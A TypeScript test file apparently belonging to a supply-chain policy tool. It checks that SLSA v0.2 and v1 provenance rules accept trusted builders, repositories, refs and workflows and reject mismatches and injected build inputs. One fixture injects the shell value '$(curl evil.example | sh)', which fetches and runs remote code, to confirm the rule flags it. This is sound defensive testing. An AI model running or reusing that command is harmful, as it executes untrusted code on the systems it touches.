// slsa-provenance-v0.2 and slsa-provenance-v1 on provenance in the shapes of
// slsa-github-generator (v0.2 container workflow, v1 docker-based builder) and
// GitHub artifact attestations (v1, buildType actions.github.io/buildtypes/workflow/v1).

import t from 'tap';
import { clone, conditions, evaluate, local, readJson, statementFile, statementOf } from './rule-helpers.ts';
import { toStatement } from '../../lib/attest/statement.ts';

const GENERATOR =
  'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_container_slsa3.yml@refs/tags/v1.9.0';
const v02 = readJson(conditions('slsa-v02-container.json'));
const runV02 = (params: Record<string, string>, predicate: unknown = v02) =>
  evaluate('slsa-provenance-v0.2', params, statementOf('slsaprovenance', predicate));

t.test('v0.2: slsa-github-generator container provenance passes', async (t) => {
  t.same(runV02({ builderIds: GENERATOR }).failures, []);
  t.same(
    runV02({
      builderIds:
        'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_container_slsa3.yml@refs/tags/v*',
      buildTypes: 'https://github.com/slsa-framework/slsa-github-generator/container@v1',
      sourceRepository: 'https://github.com/org/app',
      sourceRef: 'refs/tags/v*',
    }).failures,
    [],
  );
  t.ok(
    runV02({ builderIds: GENERATOR, sourceRepository: 'git+https://github.com/org/app', sourceRef: 'refs/tags/v2.1.0' })
      .passed,
    'git+ on the parameter',
  );
  t.ok(runV02({ builderIds: GENERATOR, sourceRepository: 'https://github.com/org/*' }).passed, 'repository prefix');
});

t.test('v0.2: failures', async (t) => {
  t.same(
    runV02({
      builderIds:
        'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_container_slsa3.yml@refs/tags/v1.10.0',
    }).failures,
    [
      `the image was not built by a trusted builder (https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_container_slsa3.yml@refs/tags/v1.10.0): builder.id is ${GENERATOR}`,
    ],
  );
  t.same(
    runV02({ builderIds: GENERATOR, buildTypes: 'https://github.com/slsa-framework/slsa-github-generator/go@v1' })
      .failures,
    [
      'the build type is not one of https://github.com/slsa-framework/slsa-github-generator/go@v1: buildType is https://github.com/slsa-framework/slsa-github-generator/container@v1',
    ],
  );
  t.same(runV02({ builderIds: GENERATOR, sourceRepository: 'https://github.com/org/ap' }).failures, [
    'the image was not built from source repository https://github.com/org/ap: source is git+https://github.com/org/app@refs/tags/v2.1.0',
  ], 'exact repository match, not a prefix');
  t.same(runV02({ builderIds: GENERATOR, sourceRef: 'refs/heads/main' }).failures, [
    'the image was not built from ref refs/heads/main: source ref is refs/tags/v2.1.0',
  ]);
  const injected = clone(v02);
  injected.invocation.parameters = { inputs: { version: '$(curl evil.example | sh)' } };
  t.same(runV02({ builderIds: GENERATOR }, injected).failures, [
    'build parameters were injected (invocation.parameters is not empty)',
  ]);
  t.ok(runV02({ builderIds: GENERATOR, noParameters: 'false' }, injected).passed);
});

t.test('v0.2: source from materials when there is no configSource, ref from the environment', async (t) => {
  const p = clone(v02);
  delete p.invocation.configSource;
  p.materials = [{
    uri: 'git+https://github.com/org/app',
    digest: { sha1: 'd20ace7968ba43c0219f62d71334c1095bab1602' },
  }];
  t.ok(
    runV02({ builderIds: GENERATOR, sourceRepository: 'https://github.com/org/app', sourceRef: 'refs/tags/v2.1.0' }, p)
      .passed,
  );
  p.materials[0].uri = 'git+https://github.com/evil/app@refs/tags/v2.1.0';
  t.notOk(runV02({ builderIds: GENERATOR, sourceRepository: 'https://github.com/org/app' }, p).passed);
  p.materials = [];
  t.same(runV02({ builderIds: GENERATOR, sourceRepository: 'https://github.com/org/app' }, p).failures, [
    'the image was not built from source repository https://github.com/org/app: source is (none)',
  ]);
});

t.test('v0.2: a v1 provenance does not satisfy the v0.2 rule', async (t) => {
  const st = statementFile(local('slsa-v1-github-workflow.json'));
  t.match(evaluate('slsa-provenance-v0.2', { builderIds: '*' }, st).failures, [
    /predicate type https:\/\/slsa.dev\/provenance\/v1 is not checked/,
  ]);
});

const GH_BUILDER = 'https://github.com/org/app/.github/workflows/release.yml@refs/tags/v2.1.0';
const gh = statementFile(local('slsa-v1-github-workflow.json'));
const runV1 = (params: Record<string, string>, st = gh) => evaluate('slsa-provenance-v1', params, st);
const withPredicate = (st: typeof gh, edit: (p: any) => void) => {
  const c = clone(st);
  edit(c.predicate);
  return toStatement(new TextEncoder().encode(JSON.stringify(c)));
};

t.test('v1: GitHub Actions workflow provenance passes', async (t) => {
  t.same(
    runV1({
      builderIds: 'https://github.com/org/app/.github/workflows/release.yml@refs/tags/*',
      buildTypes: 'https://actions.github.io/buildtypes/workflow/v1',
      sourceRepository: 'https://github.com/org/app',
      sourceRef: 'refs/tags/v2.1.0',
      workflowPath: '.github/workflows/release.yml',
      requireSourceDigest: 'true',
    }).failures,
    [],
  );
});

t.test('v1: GitHub Actions workflow provenance failures', async (t) => {
  t.same(runV1({ builderIds: 'https://github.com/org/app/.github/workflows/release.yml@refs/heads/main' }).failures, [
    `the image was not built by a trusted builder (https://github.com/org/app/.github/workflows/release.yml@refs/heads/main): runDetails.builder.id is ${GH_BUILDER}`,
  ]);
  t.same(runV1({ builderIds: GH_BUILDER, sourceRepository: 'https://github.com/org/fork' }).failures, [
    'the image was not built from source repository https://github.com/org/fork: source repository is https://github.com/org/app',
  ]);
  t.same(runV1({ builderIds: GH_BUILDER, sourceRef: 'refs/heads/*' }).failures, [
    'the image was not built from ref refs/heads/*: source ref is refs/tags/v2.1.0',
  ]);
  t.same(runV1({ builderIds: GH_BUILDER, workflowPath: '.github/workflows/ci.yml' }).failures, [
    'the image was not built by workflow .github/workflows/ci.yml: workflow is .github/workflows/release.yml',
  ]);
  const inputs = withPredicate(gh, (p) => {
    p.buildDefinition.externalParameters.inputs = { tag: 'latest' };
  });
  t.same(runV1({ builderIds: GH_BUILDER }, inputs).failures, [
    'caller inputs were injected into the build (externalParameters inputs are not empty)',
  ]);
  t.ok(runV1({ builderIds: GH_BUILDER, noInputs: 'false' }, inputs).passed);
  const noDeps = withPredicate(gh, (p) => {
    delete p.buildDefinition.resolvedDependencies;
  });
  t.ok(runV1({ builderIds: GH_BUILDER }, noDeps).passed, 'resolvedDependencies not required by default');
  t.same(runV1({ builderIds: GH_BUILDER, requireSourceDigest: 'true' }, noDeps).failures, [
    'resolvedDependencies records no commit digest for the source repository',
  ]);
  const otherDep = withPredicate(gh, (p) => {
    p.buildDefinition.resolvedDependencies[0].uri = 'git+https://github.com/org/app-tools@refs/heads/main';
  });
  t.notOk(
    runV1({ builderIds: GH_BUILDER, requireSourceDigest: 'true' }, otherDep).passed,
    'a dependency of another repository does not count',
  );
});

t.test('v1: docker-based builder with a generic externalParameters.source', async (t) => {
  const st = statementFile(local('slsa-v1-docker-based.json'));
  t.same(
    runV1(
      {
        builderIds:
          'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/builder_docker-based_slsa3.yml@refs/tags/v*',
        sourceRepository: 'git+https://github.com/org/app',
        sourceRef: 'refs/heads/main',
        requireSourceDigest: 'true',
      },
      st,
    ).failures,
    [],
  );
  t.same(
    runV1({ builderIds: GH_BUILDER, sourceRepository: 'https://github.com/org/app', sourceRef: 'refs/tags/*' }, st)
      .failures,
    [
      'the image was not built by a trusted builder (https://github.com/org/app/.github/workflows/release.yml@refs/tags/v2.1.0): runDetails.builder.id is https://github.com/slsa-framework/slsa-github-generator/.github/workflows/builder_docker-based_slsa3.yml@refs/tags/v1.10.0',
      'the image was not built from ref refs/tags/*: source ref is refs/heads/main',
    ],
  );
  t.notOk(
    runV1({ builderIds: '*', workflowPath: 'slsa/build.toml' }, st).passed,
    'no workflow.path in this build type',
  );
});

t.test('v1: a v0.2 provenance is not a v1 provenance', async (t) => {
  const r = evaluate('slsa-provenance-v1', { builderIds: '*' }, statementOf('slsaprovenance1', v02));
  t.equal(r.passed, false);
  t.equal(r.failures[0], 'the predicate is not SLSA v1 provenance (no buildDefinition or runDetails.builder.id)');
});
